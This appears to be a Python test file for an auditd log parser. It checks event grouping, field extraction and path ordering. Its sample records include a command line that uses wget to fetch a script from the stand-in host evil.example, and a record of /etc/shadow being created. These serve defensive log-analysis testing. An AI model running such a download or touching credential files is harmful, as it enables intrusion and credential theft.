from __future__ import annotations

from desktop_app.extensions.logs.sources.hosts.auditd import AUDITD
from tests.extensions.logs.sources.reading import events, lines, utc
from tests.extensions.logs.sources.sampling import SAMPLES


def test_records_that_share_a_serial_are_one_event() -> None:
    started, refused, stopped = events(AUDITD, lines(*SAMPLES["auditd"]))
    assert (started["ordinal"], refused["ordinal"], stopped["ordinal"]) == (1, 7, 8)
    assert (started["time"], started["event.id"]) == (utc(2026, 5, 4, 6, 7, 8) + 123_000, "456")
    assert started["process.command_line"] == "wget -q http://evil.example/a b.sh"
    assert (started["a0"], started["name"], started["cwd"]) == ("wget", "/usr/bin/wget", "/root")
    assert (started["type"], started["auditd.execve"], started["auditd.path"]) == ("SYSCALL", "EXECVE", "PATH")
    assert (started["SYSCALL"], started["user.audit.name"], started["source"]) == ("execve", "anna", "wget")


def test_a_record_of_a_program_holds_its_pairs_in_quotes() -> None:
    _, refused, stopped = events(AUDITD, lines(*SAMPLES["auditd"]))
    assert (refused["user.name"], refused["source.ip"], refused["event.outcome"]) == ("anna", "192.0.2.7", "failure")
    assert (refused["event.action"], refused["level"]) == ("user_login", "warning")
    assert (stopped["host"], stopped["unit"]) == ("gate", "auditd")


def test_the_name_of_a_file_comes_before_that_of_its_folder() -> None:
    head = "msg=audit(1777874828.123:456): item="
    written = [
        f'type=PATH {head}0 name="/etc/" nametype=PARENT',
        f'type=PATH {head}1 name="/etc/shadow" nametype=CREATE',
    ]
    (event,) = events(AUDITD, lines(*written))
    assert (event["name"], event["nametype"]) == ("/etc/shadow", "CREATE")
